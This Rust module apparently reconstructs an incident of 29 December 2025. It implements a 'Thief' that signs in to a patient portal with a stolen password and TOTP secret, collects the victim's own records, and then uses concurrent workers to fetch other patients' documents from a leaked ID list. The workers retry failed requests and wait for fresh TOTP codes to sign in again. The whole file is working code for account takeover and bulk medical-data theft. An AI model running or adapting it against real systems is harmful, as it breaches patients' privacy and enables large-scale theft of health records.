//! A patient's credentials and a leaked listing: what happened on 29 December 2025.

use super::loot::{Kind, Sack};
use crate::browser::{Browser, ids_in};
use crate::totp::Authenticator;
use crate::{Problem, clock};
use std::collections::VecDeque;
use std::sync::atomic::{AtomicU32, Ordering};
use std::sync::{Mutex, PoisonError};
use std::time::Duration;

/// How often one document is asked for before it is given up.
const TRIES: u8 = 3;
/// How often the thief signs in again after the session stopped working.
const SIGN_INS: u32 = 3;

pub(super) struct Thief {
    login: String,
    password: String,
    app: Authenticator,
    sign_ins_left: AtomicU32,
    /// Only one hand signs in at a time.
    at_the_door: tokio::sync::Mutex<()>,
}

type Queue = Mutex<VecDeque<(String, u8)>>;

impl Thief {
    pub(super) fn new(login: &str, password: &str, secret: &str) -> Result<Self, Problem> {
        let app = Authenticator::from_secret(secret)
            .ok_or_else(|| Problem::Unexpected("the stolen secret does not read".to_owned()))?;
        Ok(Self {
            login: login.to_owned(),
            password: password.to_owned(),
            app,
            sign_ins_left: AtomicU32::new(SIGN_INS),
            at_the_door: tokio::sync::Mutex::new(()),
        })
    }

    pub(super) async fn steal(
        &self,
        browser: &Browser,
        sack: &Sack,
        list: Vec<String>,
        hands: usize,
    ) -> Result<(), Problem> {
        self.sign_in(browser).await?;
        let own = look_around(browser, sack).await?;
        let others = list.into_iter().filter(|id| !own.contains(id));
        let queue: Queue = Mutex::new(others.map(|id| (id, 0)).collect());
        sack.reaches_out(clock::now());
        let hands = (0..hands.max(1)).map(|_| self.walk(browser, sack, &queue));
        futures_util::future::join_all(hands).await;
        Ok(())
    }

    async fn sign_in(&self, browser: &Browser) -> Result<(), Problem> {
        let seconds = u64::try_from(clock::now().as_second()).unwrap_or(0);
        let code = self.app.digits(seconds);
        browser
            .sign_in_with_password(&self.login, &self.password, &code)
            .await
    }

    /// One hand: takes the next id until none is left. What failed is put back and tried again.
    async fn walk(&self, browser: &Browser, sack: &Sack, queue: &Queue) {
        loop {
            let next = queue
                .lock()
                .unwrap_or_else(PoisonError::into_inner)
                .pop_front();
            let Some((id, tries)) = next else { return };
            let got = match browser.get(&format!("/api/documents/{id}")).await {
                Ok(answer) => {
                    sack.answered(&answer);
                    if matches!(answer.status, 401 | 303) {
                        self.sign_in_again(browser).await;
                    }
                    sack.take(Kind::Document, &id, &answer)
                }
                Err(_) => {
                    sack.unanswered();
                    false
                }
            };
            if !got && tries + 1 < TRIES {
                queue
                    .lock()
                    .unwrap_or_else(PoisonError::into_inner)
                    .push_back((id, tries + 1));
            }
        }
    }

    /// A code works once in its 30 seconds, so the next one is waited for.
    async fn sign_in_again(&self, browser: &Browser) {
        let Ok(_alone) = self.at_the_door.try_lock() else {
            return;
        };
        let left = self.sign_ins_left.load(Ordering::Relaxed);
        if left == 0 {
            return;
        }
        self.sign_ins_left.store(left - 1, Ordering::Relaxed);
        let into_step = u64::try_from(clock::now().as_second()).unwrap_or(0) % 30;
        tokio::time::sleep(Duration::from_secs(30 - into_step)).await;
        // Refused, it goes on with the session it has.
        let _ = self.sign_in(browser).await;
    }
}

/// What is behind the stolen account itself: its own record and documents.
async fn look_around(browser: &Browser, sack: &Sack) -> Result<Vec<String>, Problem> {
    let home = browser.visit("/home").await?;
    sack.answered(&home);
    let mut own = Vec::new();
    for patient in ids_in(&home.text(), "/patients/") {
        // The first page says whose account it is.
        sack.name(&patient, home.first_byte_at.unwrap_or_else(clock::now));
        for (kind, path) in [(Kind::Record, "record"), (Kind::Shelf, "documents")] {
            let answer = browser
                .get(&format!("/api/patients/{patient}/{path}"))
                .await?;
            sack.answered(&answer);
            if sack.take(kind, &patient, &answer) && matches!(kind, Kind::Shelf) {
                own.extend(ids_in(&answer.text(), "\"document\":\""));
            }
        }
    }
    for id in &own {
        let answer = browser.get(&format!("/api/documents/{id}")).await?;
        sack.answered(&answer);
        sack.take(Kind::Document, id, &answer);
    }
    Ok(own)
}
